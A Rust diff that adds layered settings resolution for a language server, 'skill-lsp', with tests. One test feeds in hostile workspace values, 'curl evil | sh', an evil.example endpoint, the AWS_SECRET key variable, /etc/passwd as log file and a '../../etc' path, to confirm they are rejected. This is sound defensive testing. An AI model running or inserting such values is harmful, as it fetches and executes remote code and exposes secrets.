@@ -149,3 +149,343 @@ pub fn config_dir() -> Option<PathBuf> {
         .or_else(|| std::env::var_os("HOME").filter(|v| !v.is_empty()).map(|h| PathBuf::from(h).join(".config")))?;
     Some(base.join("skill-lsp"))
 }
+
+/// Which layer a value came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Layer {
+    Default,
+    User,
+    Workspace,
+    Editor,
+    /// Command-line flags (`--skills`, `--no-builtin`).
+    Cli,
+}
+
+/// Settings plus where every value came from and what was wrong with the inputs.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Resolved {
+    pub settings: Settings,
+    /// Dotted camelCase key -> (layer, source file or "initializationOptions" ...).
+    pub origins: BTreeMap<String, (Layer, String)>,
+    /// Unknown keys, invalid values, keys a workspace may not set. Reported once, never fatal.
+    pub warnings: Vec<String>,
+}
+
+/// Inputs of a resolution, lowest layer first.
+#[derive(Debug, Clone, Default)]
+pub struct Inputs {
+    /// User config file path and its parsed content.
+    pub user: Option<(PathBuf, serde_json::Value)>,
+    /// Workspace folder, its `.skill-lsp.yaml` path and parsed content.
+    pub workspaces: Vec<(PathBuf, PathBuf, serde_json::Value)>,
+    /// Editor settings (`initializationOptions`, then `workspace/configuration`), merged in order.
+    pub editor: Vec<(String, serde_json::Value)>,
+    /// Problems met while reading the files (bad YAML...).
+    pub read_errors: Vec<String>,
+}
+
+/// The user config file: `$XDG_CONFIG_HOME/skill-lsp/config.yaml` (fallback `~/.config/...`).
+pub fn user_config_file() -> Option<PathBuf> {
+    config_dir().map(|d| d.join("config.yaml"))
+}
+
+/// Name of the workspace settings file.
+pub const WORKSPACE_FILE: &str = ".skill-lsp.yaml";
+
+/// Read a YAML settings file. `Ok(None)` when it does not exist.
+pub fn read_yaml(path: &std::path::Path) -> Result<Option<serde_json::Value>, String> {
+    match std::fs::read_to_string(path) {
+        Ok(text) if text.trim().is_empty() => Ok(Some(serde_json::Value::Object(Default::default()))),
+        Ok(text) => yaml_serde::from_str::<serde_json::Value>(&text)
+            .map(Some)
+            .map_err(|e| format!("{}: invalid YAML: {}", path.display(), e.to_string().lines().next().unwrap_or(""))),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
+        Err(e) => Err(format!("{}: {e}", path.display())),
+    }
+}
+
+impl Inputs {
+    /// Read the user file and each workspace's `.skill-lsp.yaml`.
+    pub fn read(user_file: Option<&std::path::Path>, workspaces: &[PathBuf]) -> Inputs {
+        let mut inputs = Inputs::default();
+        if let Some(p) = user_file {
+            match read_yaml(p) {
+                Ok(Some(v)) => inputs.user = Some((p.to_path_buf(), v)),
+                Ok(None) => {}
+                Err(e) => inputs.read_errors.push(e),
+            }
+        }
+        for ws in workspaces {
+            let p = ws.join(WORKSPACE_FILE);
+            match read_yaml(&p) {
+                Ok(Some(v)) => inputs.workspaces.push((ws.clone(), p, v)),
+                Ok(None) => {}
+                Err(e) => inputs.read_errors.push(e),
+            }
+        }
+        inputs
+    }
+}
+
+/// Resolve the layers into settings.
+pub fn resolve(inputs: &Inputs) -> Resolved {
+    let mut r = Resolved { settings: Settings::default(), origins: BTreeMap::new(), warnings: inputs.read_errors.clone() };
+    if let Some((path, v)) = &inputs.user {
+        apply_layer(&mut r, v, Layer::User, &path.display().to_string(), None);
+    }
+    for (ws, path, v) in &inputs.workspaces {
+        apply_layer(&mut r, v, Layer::Workspace, &path.display().to_string(), Some(ws));
+    }
+    for (source, v) in &inputs.editor {
+        let v = v.get("skillLsp").unwrap_or(v);
+        apply_layer(&mut r, v, Layer::Editor, source, None);
+    }
+    r
+}
+
+/// Keys a workspace file may set: only what is safe in an untrusted repository.
+fn workspace_safe(key: &str) -> bool {
+    key.starts_with("skills.") && key != "skills.userFolders" || key.starts_with("tips.")
+}
+
+fn apply_layer(r: &mut Resolved, v: &serde_json::Value, layer: Layer, source: &str, ws: Option<&PathBuf>) {
+    let serde_json::Value::Object(map) = v else {
+        if !v.is_null() {
+            r.warnings.push(format!("{source}: settings must be a mapping"));
+        }
+        return;
+    };
+    let mut leaves = Vec::new();
+    flatten("", map, &mut leaves);
+    for (key, value) in leaves {
+        if layer == Layer::Workspace && !workspace_safe(&key) && KNOWN_KEYS.contains(&key.as_str()) {
+            r.warnings.push(format!("{source}: `{key}` is ignored in a workspace file (it can only be set in user or editor settings)"));
+            continue;
+        }
+        match set(&mut r.settings, &key, &value, ws) {
+            Ok(()) => {
+                r.origins.insert(key, (layer, source.to_string()));
+            }
+            Err(e) => r.warnings.push(format!("{source}: {e}")),
+        }
+    }
+}
+
+/// Every key we understand (dotted camelCase). Maps (`tips.overrides`) are leaves.
+pub const KNOWN_KEYS: &[&str] = &[
+    "logLevel", "logFile", "skills.builtin", "skills.paths", "skills.userFolders", "skills.enabled", "skills.disabled",
+    "tips.enabled", "tips.diagnostics", "tips.severity", "tips.overrides", "tips.implicitDiagnostics", "tips.debounceMs",
+    "hover.agent", "hover.agentTimeoutMs", "agent.provider", "agent.model", "agent.endpoint", "agent.apiKeyEnv",
+    "agent.command", "agent.args", "agent.timeoutSecs", "agent.maxOutputTokens", "agent.temperature", "agent.retries",
+    "agent.contextTokens",
+];
+
+fn flatten(prefix: &str, map: &serde_json::Map<String, serde_json::Value>, out: &mut Vec<(String, serde_json::Value)>) {
+    for (k, v) in map {
+        let key = if prefix.is_empty() { k.clone() } else { format!("{prefix}.{k}") };
+        match v {
+            serde_json::Value::Object(inner) if !KNOWN_KEYS.contains(&key.as_str()) && KNOWN_KEYS.iter().any(|known| known.starts_with(&format!("{key}."))) => {
+                flatten(&key, inner, out)
+            }
+            _ => out.push((key, v.clone())),
+        }
+    }
+}
+
+fn want_bool(key: &str, v: &serde_json::Value) -> Result<bool, String> {
+    v.as_bool().ok_or_else(|| format!("`{key}` must be true or false, got {v}"))
+}
+fn want_u64(key: &str, v: &serde_json::Value) -> Result<u64, String> {
+    v.as_u64().ok_or_else(|| format!("`{key}` must be a non-negative integer, got {v}"))
+}
+fn want_opt_str(key: &str, v: &serde_json::Value) -> Result<Option<String>, String> {
+    match v {
+        serde_json::Value::Null => Ok(None),
+        serde_json::Value::String(s) if s.trim().is_empty() => Ok(None),
+        serde_json::Value::String(s) => Ok(Some(s.clone())),
+        _ => Err(format!("`{key}` must be a string, got {v}")),
+    }
+}
+fn want_list(key: &str, v: &serde_json::Value) -> Result<Vec<String>, String> {
+    match v {
+        serde_json::Value::Null => Ok(Vec::new()),
+        serde_json::Value::String(s) => Ok(vec![s.clone()]),
+        serde_json::Value::Array(items) => items
+            .iter()
+            .map(|i| i.as_str().map(str::to_string).ok_or_else(|| format!("`{key}` must be a list of strings, got {v}")))
+            .collect(),
+        _ => Err(format!("`{key}` must be a list of strings, got {v}")),
+    }
+}
+fn want_severity(key: &str, v: &serde_json::Value) -> Result<Option<Severity>, String> {
+    match v.as_str() {
+        Some("off") | Some("none") => Ok(None),
+        Some(s) => Severity::parse(s).map(Some).ok_or_else(|| format!("`{key}`: unknown severity `{s}` (off, hint, information, warning, error)")),
+        None if v.as_bool() == Some(false) => Ok(None),
+        None => Err(format!("`{key}` must be a severity string, got {v}")),
+    }
+}
+
+fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>) -> Result<(), String> {
+    match key {
+        "logLevel" => s.log_level = want_opt_str(key, v)?.unwrap_or_else(|| "info".into()),
+        "logFile" => s.log_file = want_opt_str(key, v)?.map(|p| expand_home(&p)),
+        "skills.builtin" => s.skills.builtin = want_bool(key, v)?,
+        "skills.userFolders" => s.skills.user_folders = want_bool(key, v)?,
+        "skills.paths" => {
+            let mut paths = Vec::new();
+            for p in want_list(key, v)? {
+                let path = expand_home(&p);
+                match ws {
+                    Some(root) => {
+                        let full = normalize_path(&root.join(&path));
+                        if !full.starts_with(root) {
+                            return Err(format!("`skills.paths` entry `{p}` is outside the workspace; a workspace file may only add skill paths inside it"));
+                        }
+                        paths.push(full);
+                    }
+                    None => paths.push(path),
+                }
+            }
+            // Paths accumulate across layers: a workspace adds to the user's paths.
+            for p in paths {
+                if !s.skills.paths.contains(&p) {
+                    s.skills.paths.push(p);
+                }
+            }
+        }
+        "skills.enabled" => s.skills.enabled = if v.is_null() { None } else { Some(want_list(key, v)?) },
+        "skills.disabled" => s.skills.disabled = want_list(key, v)?,
+        "tips.enabled" => s.tips.enabled = want_bool(key, v)?,
+        "tips.diagnostics" => s.tips.diagnostics = want_bool(key, v)?,
+        "tips.severity" => s.tips.severity = if v.is_null() { None } else { want_severity(key, v)? },
+        "tips.overrides" => {
+            let serde_json::Value::Object(map) = v else {
+                return Err(format!("`{key}` must be a mapping of skill or tip id to severity or off, got {v}"));
+            };
+            let mut bad = Vec::new();
+            for (k, sev) in map {
+                match want_severity(&format!("tips.overrides.{k}"), sev) {
+                    Ok(x) => {
+                        s.tips.overrides.insert(k.clone(), x);
+                    }
+                    Err(e) => bad.push(e),
+                }
+            }
+            if !bad.is_empty() {
+                return Err(bad.join("; "));
+            }
+        }
+        "tips.implicitDiagnostics" => s.tips.implicit_diagnostics = want_list(key, v)?,
+        "tips.debounceMs" => s.tips.debounce_ms = want_u64(key, v)?.min(60_000),
+        "hover.agent" => s.hover.agent = want_bool(key, v)?,
+        "hover.agentTimeoutMs" => s.hover.agent_timeout_ms = want_u64(key, v)?,
+        "agent.provider" => {
+            s.agent.provider = match want_opt_str(key, v)?.as_deref().map(str::to_ascii_lowercase).as_deref() {
+                None | Some("auto") => Provider::Auto,
+                Some("openai") | Some("ollama") | Some("openai-compatible") => Provider::OpenAi,
+                Some("anthropic") => Provider::Anthropic,
+                Some("command") => Provider::Command,
+                Some("none") | Some("off") => Provider::None,
+                Some(other) => return Err(format!("`agent.provider`: unknown provider `{other}` (auto, openai, anthropic, command, none)")),
+            }
+        }
+        "agent.model" => s.agent.model = want_opt_str(key, v)?,
+        "agent.endpoint" => s.agent.endpoint = want_opt_str(key, v)?,
+        "agent.apiKeyEnv" => s.agent.api_key_env = want_opt_str(key, v)?,
+        "agent.command" => s.agent.command = want_opt_str(key, v)?,
+        "agent.args" => s.agent.args = want_list(key, v)?,
+        "agent.timeoutSecs" => s.agent.timeout_secs = want_u64(key, v)?.max(1),
+        "agent.maxOutputTokens" => s.agent.max_output_tokens = want_u64(key, v)?.clamp(16, 1_000_000) as u32,
+        "agent.temperature" => s.agent.temperature = v.as_f64().ok_or_else(|| format!("`{key}` must be a number, got {v}"))? as f32,
+        "agent.retries" => s.agent.retries = want_u64(key, v)?.min(10) as u32,
+        "agent.contextTokens" => s.agent.context_tokens = want_u64(key, v)?.clamp(256, 2_000_000) as u32,
+        _ => return Err(format!("unknown setting `{key}`")),
+    }
+    Ok(())
+}
+
+/// `~/x` -> `$HOME/x`.
+pub fn expand_home(p: &str) -> PathBuf {
+    if let Some(rest) = p.strip_prefix("~/")
+        && let Some(home) = std::env::var_os("HOME")
+    {
+        return PathBuf::from(home).join(rest);
+    }
+    PathBuf::from(p)
+}
+
+/// Lexically remove `.` and `..` (no file system access: the path may not exist yet).
+pub fn normalize_path(p: &std::path::Path) -> PathBuf {
+    let mut out = PathBuf::new();
+    for c in p.components() {
+        match c {
+            std::path::Component::ParentDir => {
+                out.pop();
+            }
+            std::path::Component::CurDir => {}
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn layers_and_origins() {
+        let inputs = Inputs {
+            user: Some((PathBuf::from("/u/config.yaml"), json!({"agent": {"provider": "openai", "endpoint": "http://127.0.0.1:1/v1"}, "tips": {"debounceMs": 100}}))),
+            workspaces: vec![(PathBuf::from("/w"), PathBuf::from("/w/.skill-lsp.yaml"), json!({"tips": {"debounceMs": 50, "overrides": {"docker": "off", "python-error-handling/blind-except": "warning"}}, "skills": {"paths": ["team-skills"]}}))],
+            editor: vec![("initializationOptions".into(), json!({"skillLsp": {"tips": {"severity": "hint"}}}))],
+            read_errors: vec![],
+        };
+        let r = resolve(&inputs);
+        assert!(r.warnings.is_empty(), "{:?}", r.warnings);
+        assert_eq!(r.settings.agent.provider, Provider::OpenAi);
+        assert_eq!(r.settings.tips.debounce_ms, 50);
+        assert_eq!(r.settings.tips.severity, Some(Severity::Hint));
+        assert_eq!(r.settings.tips.overrides["docker"], None);
+        assert_eq!(r.settings.tips.overrides["python-error-handling/blind-except"], Some(Severity::Warning));
+        assert_eq!(r.settings.skills.paths, vec![PathBuf::from("/w/team-skills")]);
+        assert_eq!(r.origins["tips.debounceMs"].0, Layer::Workspace);
+        assert_eq!(r.origins["agent.endpoint"].0, Layer::User);
+        assert_eq!(r.origins["tips.severity"].0, Layer::Editor);
+    }
+
+    #[test]
+    fn workspace_cannot_choose_programs_or_endpoints() {
+        let inputs = Inputs {
+            workspaces: vec![(PathBuf::from("/w"), PathBuf::from("/w/.skill-lsp.yaml"), json!({"agent": {"command": "curl evil | sh", "endpoint": "https://evil.example/v1", "apiKeyEnv": "AWS_SECRET"}, "hover": {"agent": true}, "logFile": "/etc/passwd", "skills": {"paths": ["../../etc"]}}))],
+            ..Default::default()
+        };
+        let r = resolve(&inputs);
+        assert_eq!(r.settings.agent.command, None);
+        assert_eq!(r.settings.agent.endpoint, None);
+        assert_eq!(r.settings.agent.api_key_env, None);
+        assert!(!r.settings.hover.agent);
+        assert_eq!(r.settings.log_file, None);
+        assert!(r.settings.skills.paths.is_empty());
+        assert_eq!(r.warnings.len(), 6, "{:#?}", r.warnings);
+        assert!(r.warnings.iter().any(|w| w.contains("`agent.command` is ignored in a workspace file")));
+        assert!(r.warnings.iter().any(|w| w.contains("outside the workspace")));
+    }
+
+    #[test]
+    fn bad_fields_are_skipped_not_fatal() {
+        let inputs = Inputs {
+            editor: vec![("workspace/configuration".into(), json!({"tips": {"debounceMs": "soon", "severity": "loud", "enabled": false}, "bogus": 1, "agent": {"model": "m"}}))],
+            ..Default::default()
+        };
+        let r = resolve(&inputs);
+        assert_eq!(r.warnings.len(), 3, "{:#?}", r.warnings);
+        assert!(!r.settings.tips.enabled);
+        assert_eq!(r.settings.tips.debounce_ms, 300);
+        assert_eq!(r.settings.agent.model.as_deref(), Some("m"));
+        assert!(r.warnings.iter().any(|w| w.contains("unknown setting `bogus`")));
+    }
+}
